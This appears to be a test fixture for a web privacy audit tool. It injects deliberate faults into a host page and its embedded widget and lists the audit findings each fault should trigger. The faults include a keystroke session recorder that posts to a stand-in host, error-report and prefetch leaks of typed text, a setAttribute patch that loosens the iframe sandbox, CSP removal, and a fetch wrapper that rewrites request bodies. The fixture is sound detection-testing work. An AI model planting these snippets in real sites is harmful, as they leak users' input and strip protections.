import { createServer, type Server } from 'node:http'
import { listening, stopped } from '../../examples/start/serve.js'
import type { FindingRule } from '../../src/audit/finding.js'
import type { Everything } from './story-servers.js'

// Copies of the plain host page and of the widget in it, each with one fault of the kind that gets into sites: a snippet
// that a colleague pasted in, a setting that was loosened to make it work. What guards the original is taken off as whoever
// pasted would have had to: the policy of the widget, and where the fault needs storage, the frame's sandbox.

/** A fault, and what an audit has to say about it. */
export type Fault = {
  readonly name: string
  /** Put into the widget, before its own script. */
  readonly widget: string
  /** Put into the host page, before its own script. */
  readonly host?: string
  /** The rules that must be among the findings. */
  readonly rules: readonly FindingRule[]
  /** Part of the destination, store or key that one of them names. */
  readonly names: string
}

const whenTyped = (then: string) =>
  `document.addEventListener('input', ({ target }) => { if (target.id === 'story') { const story = target.value; ${then} } })`
const whenTicked = (prefix: string, then: string) =>
  `document.addEventListener('change', ({ target }) => { if (target.id.startsWith('${prefix}')) { const id = target.id.slice(${prefix.length}).replaceAll('.', '-').toLowerCase(); ${then} } })`

/** Lets the frame keep things, as somebody would to make a draft survive. */
const loosened = `{
  const { setAttribute } = Element.prototype
  Element.prototype.setAttribute = function (name, value) {
    setAttribute.call(this, name, name === 'sandbox' ? value + ' allow-same-origin' : value)
  }
}`

/** The faults, by the name that a developer would give them. */
export const faults: readonly Fault[] = [
  {
    name: 'analytics snippet',
    widget: `document.addEventListener('click', ({ target }) => {
      const pressed = target.closest('button, label')
      if (pressed) new Image().src = 'http://analytics.test/hit?' + new URLSearchParams({ event: pressed.textContent })
    }, true)`,
    rules: ['egress-before-consent', 'undeclared-flow', 'interference'],
    names: 'analytics.test',
  },
  {
    name: 'session recorder',
    widget: `{
      const events = []
      document.addEventListener('input', ({ target }) => events.push([Math.round(performance.now()), target.id, target.value]))
      setInterval(() => {
        if (events.length === 0) return
        const sent = new XMLHttpRequest()
        sent.open('POST', 'http://recorder.test/batch')
        sent.send(btoa(JSON.stringify(events.splice(0))))
      }, 300)
    }`,
    rules: ['canary-leak', 'egress-before-consent', 'undeclared-flow'],
    names: 'recorder.test',
  },
  {
    name: 'error reporter',
    widget: `addEventListener('error', ({ message }) => {
      fetch('http://errors.test/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ message }) })
    })
    ${whenTyped("setTimeout(() => { throw new Error('draft not saved: ' + story) })")}`,
    rules: ['canary-leak', 'egress-before-consent', 'undeclared-flow'],
    names: 'errors.test',
  },
  {
    name: 'state in the address',
    widget: whenTyped("history.replaceState(null, '', '#' + new URLSearchParams({ story }))"),
    host: loosened,
    rules: ['canary-leak'],
    names: 'history',
  },
  {
    name: 'autosave',
    widget: whenTyped("localStorage.setItem('draft', JSON.stringify({ story }))"),
    host: loosened,
    rules: ['canary-leak', 'at-rest-undeclared'],
    names: 'draft',
  },
  {
    name: 'prefetch by need',
    widget: whenTicked(
      'needs-',
      "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'http://topics.test/' + id; document.head.append(link)",
    ),
    rules: ['egress-before-consent', 'undeclared-flow'],
    names: 'topics.test',
  },
  {
    name: 'answer in the title',
    widget: whenTyped("parent.postMessage({ title: 'Intake: ' + story }, '*')"),
    host: "addEventListener('message', ({ data }) => { if (data?.title) document.title = data.title })",
    rules: ['canary-leak'],
    names: 'title',
  },
  {
    name: 'token without its filling',
    widget: whenTyped('parent.postMessage({ short: story.length }, location.ancestorOrigins[0])'),
    host: `{
      let short = 0
      addEventListener('message', ({ data }) => { if (data?.short) short = data.short })
      const { fetch } = window
      window.fetch = (address, options) =>
        fetch(address, options?.body ? { ...options, body: options.body.slice(0, options.body.length - 64 + short) } : options)
    }`,
    rules: ['size-off-bucket', 'interference'],
    names: 'body',
  },
  {
    name: 'names looked up early',
    widget: whenTicked(
      'needs-',
      "const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//' + id + '.topics.test'; document.head.append(link)",
    ),
    rules: ['egress-before-consent', 'undeclared-flow'],
    names: 'topics.test',
  },
  {
    name: 'font by language',
    widget: whenTicked(
      'languages-',
      "new FontFace('own', 'url(http://fonts.test/' + id + '.woff2)').load().catch(() => {})",
    ),
    rules: ['egress-before-consent', 'undeclared-flow', 'interference'],
    names: 'fonts.test',
  },
]

/** Where a copy is served. */
export type FaultyHost = {
  readonly page: string
  readonly origins: readonly string[]
  readonly close: () => Promise<void>
}

/**
 * Serves a copy of the plain host page and the widget with a fault in it, over the same catalogue and board.
 *
 * @param everything - the originals, served.
 * @param fault - what is put in; without it the copy has no fault, only no guards.
 * @param port - a free one, and the one after it.
 */
export async function serveFaulty(
  { at }: Pick<Everything, 'at'>,
  { widget, host = '' }: Pick<Fault, 'widget' | 'host'>,
  port: number,
): Promise<FaultyHost> {
  const hostOrigin = `http://localhost:${port}`
  const widgetOrigin = `http://localhost:${port + 1}`
  const own = (text: string) => text.replaceAll(at.intake.origin, widgetOrigin)
  const withScript = (html: string, code: string) =>
    html.replace('<meta charset="utf-8"', (found) => `<script>${code}</script>${found}`)
  const servers = [
    rewriting(at.plain.origin, (text, isPage) => (isPage ? withScript(own(text), host) : own(text))),
    rewriting(at.intake.origin, (text, isPage) => (isPage ? withScript(withoutPolicy(text), widget) : text)),
  ]
  await Promise.all(servers.map((server, nth) => listening(server, port + nth)))
  return {
    page: `${hostOrigin}/`,
    origins: [hostOrigin, widgetOrigin],
    close: async () => {
      await Promise.all(servers.map(stopped))
    },
  }
}

const withoutPolicy = (html: string): string => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')

/** Hands on what another server serves, with its text changed and without its headers. */
function rewriting(from: string, change: (text: string, isPage: boolean) => string): Server {
  return createServer((request, response) => {
    const answer = async () => {
      const got = await fetch(new URL(request.url ?? '/', from))
      const type = got.headers.get('content-type') ?? 'application/octet-stream'
      const bytes = Buffer.from(await got.arrayBuffer())
      const isText = /^text\/|javascript/.test(type)
      response.writeHead(got.status, { 'Content-Type': type })
      response.end(isText ? change(bytes.toString('utf8'), type.startsWith('text/html')) : bytes)
    }
    answer().catch(() => response.destroy())
  })
}
